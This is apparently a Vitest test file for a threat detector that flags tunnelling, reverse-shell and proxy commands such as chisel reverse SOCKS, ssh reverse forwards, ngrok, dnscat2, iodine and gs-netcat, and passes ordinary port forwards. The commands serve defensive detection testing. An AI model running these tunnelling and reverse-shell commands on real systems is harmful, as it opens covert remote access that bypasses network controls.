// Tunnels, open forwards, relays and proxies are found; a person who forwards a port to work is not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  '/tmp/c client 10.9.8.7:8080 R:socks',
  'chisel client 10.9.8.7:443 R:1080:socks',
  'ssh -fNR 2222:localhost:22 u@10.9.8.7',
  'ssh -o StrictHostKeyChecking=no -f -N -D 0.0.0.0:1080 u@10.9.8.7',
  'ngrok tcp 22',
  'cloudflared tunnel --url ssh://localhost:22',
  'socat TCP-LISTEN:8080,fork,reuseaddr TCP:10.9.8.7:3389',
  'proxychains4 -q nmap -sT 10.0.0.1',
  'iodine -f t.example.org',
  'dnscat2 --dns server=10.9.8.7',
  'code tunnel --accept-server-license-terms',
  'devtunnel host -p 8080',
  'gs-netcat -s x -l -i',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine('/tmp/c client 10.9.8.7:8080 R:socks').category).toBe('suspicious_network');
});

test.each([
  'ssh -L 9090:127.0.0.1:9090 ops@bastion',
  'ssh -N -D 1080 ops@bastion',
  'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80',
  'export https_proxy=http://proxy.example.org:3128',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
